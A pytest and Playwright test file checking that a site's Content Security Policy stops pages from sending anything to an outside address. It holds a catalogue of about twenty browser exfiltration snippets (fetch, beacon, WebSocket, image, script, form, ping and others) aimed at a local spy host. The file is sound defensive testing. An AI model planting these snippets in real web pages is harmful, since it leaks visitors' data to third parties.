"""A page that tries to give something away cannot: its policy lets nothing out to another address."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route

from .host import Host, hosting

WAYS = {
    "fetch": "fetch(spy).catch(() => {})",
    "silent-fetch": "fetch(spy, {mode: 'no-cors'}).catch(() => {})",
    "request": "const r = new XMLHttpRequest(); r.open('POST', spy); r.send('secret')",
    "beacon": "navigator.sendBeacon(spy, 'secret')",
    "socket": "new WebSocket(spy.replace('http', 'ws'))",
    "events": "new EventSource(spy)",
    "image": "new Image().src = spy",
    "source-set": "new Image().srcset = spy",
    "audio": "new Audio(spy).load()",
    "script": "add('script', {src: spy})",
    "module": "import(spy).catch(() => {})",
    "frame": "add('iframe', {src: spy})",
    "object": "add('object', {data: spy})",
    "embed": "add('embed', {src: spy})",
    "style-sheet": "add('link', {rel: 'stylesheet', href: spy})",
    "style-import": "add('style', {}, `@import '${spy}';`)",
    "font": "new FontFace('spy', `url(${spy})`).load().catch(() => {})",
    "background": "document.body.setAttribute('style', `background-image: url(${spy})`)",
    "preload": "add('link', {rel: 'preload', as: 'image', href: spy})",
    "prefetch": "add('link', {rel: 'prefetch', href: spy})",
    "form": "add('form', {action: spy, method: 'post', target: '_blank'}).submit()",
    "ping": "add('a', {href: '#main', ping: spy}).click()",
}
"""A name for each way out, and the script that tries it; ``spy`` is an address that ends with the name."""

TRY = """
  const add = (tag, attributes, text = "") => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    made.textContent = text;
    document.body.append(made);
    return made;
  };
"""


@pytest.fixture
def spy(tmp_path: Path) -> Iterator[Host]:
    """A host at another address that notes whatever reaches it."""
    (tmp_path / "404.html").write_text("Heard.", encoding="utf-8")
    with hosting(tmp_path) as host:
        yield host


@pytest.fixture
def own(site: Path) -> Iterator[Host]:
    """The host of the site."""
    with hosting(site) as host:
        yield host


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page whose browser may complain: what is refused is told in its console."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("name", ["index.html", "decide/may-i-share.html", "about/privacy.html", "404.html"])
def test_no_way_out_is_open(page: Page, own: Host, spy: Host, name: str) -> None:
    """On a page of the site the policy refuses every way out, and nothing reaches the other address."""
    refused = "new Promise((done) => document.addEventListener('securitypolicyviolation', done, {once: true}))"
    page.goto(own.address + name)
    for way, script in WAYS.items():
        page.evaluate(
            f"async (spy) => {{ const refusal = {refused}; {TRY} {script}; await refusal; }}", spy.address + way
        )

    assert [] == spy.asked


def test_the_ways_out_are_ways(page: Page, own: Host, spy: Host) -> None:
    """Without a policy every one of them does reach the other address; so a refusal means something."""
    own.folder, own.guarded = spy.folder, False
    page.goto(own.address)
    for way, script in WAYS.items():
        page.evaluate(f"(spy) => {{ {TRY} {script}; }}", spy.address + way)
    ways = {f"/{way}" for way in WAYS}

    assert ways == spy.heard(ways)


def test_another_site_is_not_told_where_its_visitor_comes_from(page: Page, own: Host) -> None:
    """A link to a source outside gives that site no address of ours."""
    told = []

    def answer(route: Route) -> None:
        told.append(route.request.all_headers())
        route.fulfill(body="Another site.")

    page.context.route(lambda address: not address.startswith(own.address), answer)
    page.goto(f"{own.address}lookup/sources.html")
    page.locator('main a[href^="https://"]').first.click()
    page.get_by_text("Another site.").wait_for()

    assert ["absent"] == [headers.get("referer", "absent") for headers in told]
